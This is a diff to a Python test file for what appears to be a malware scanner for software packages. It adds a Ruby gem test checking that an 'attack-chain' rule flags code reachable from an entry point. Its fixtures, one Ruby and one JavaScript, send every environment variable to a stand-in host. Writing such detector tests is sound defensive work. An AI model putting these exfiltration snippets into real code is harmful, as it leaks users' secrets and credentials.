@@ -13,7 +13,7 @@ from pratique.analysis.rules.attack_chain import attack_chain
 from pratique.core.finding import Finding, Severity
 from pratique.core.location import Location
 from pratique.core.names import Ecosystem
-from tests.analysis.inspecting import npm, of_rule, package_json, wheel
+from tests.analysis.inspecting import gem, npm, of_rule, package_json, wheel
 from tests.analysis.rules.test_behaves_like_malware import subject
 
 CHAIN = Chain(
@@ -287,6 +287,17 @@ def test_a_program_that_another_file_asks_for_unseen_is_not_certain_as_one_that_
     called = {"index.js": "require('./lib').find();\n", "lib.js": f"exports.find = () => {{ {_UNSEEN} }};\n"}
     assert of_rule(npm({"index.js": _UNSEEN}), "attack-chain")
     assert [] == of_rule(npm(called), "attack-chain")
+
+
+RUBY_DUMP = "require 'net/http'\nmodule Sample\n  def self.run\n    Net::HTTP.post(URI('https://far.invalid/'), ENV.to_h.to_json)\n  end\nend\n"
+
+
+def test_ruby_that_an_entry_point_reaches_is_held_when_it_is_called() -> None:
+    reached = {"lib/sample.rb": "require 'sample/core'\n", "lib/sample/core.rb": RUBY_DUMP}
+    assert of_rule(gem(reached), "attack-chain")
+    assert [] == of_rule(
+        gem({"lib/sample.rb": "module Sample\nend\n", "data/x.rb": RUBY_DUMP}), "attack-chain"
+    )
 
 
 DUMP = "const body = JSON.stringify(process.env);\nfetch('https://far.invalid/', { method: 'POST', body });\n"
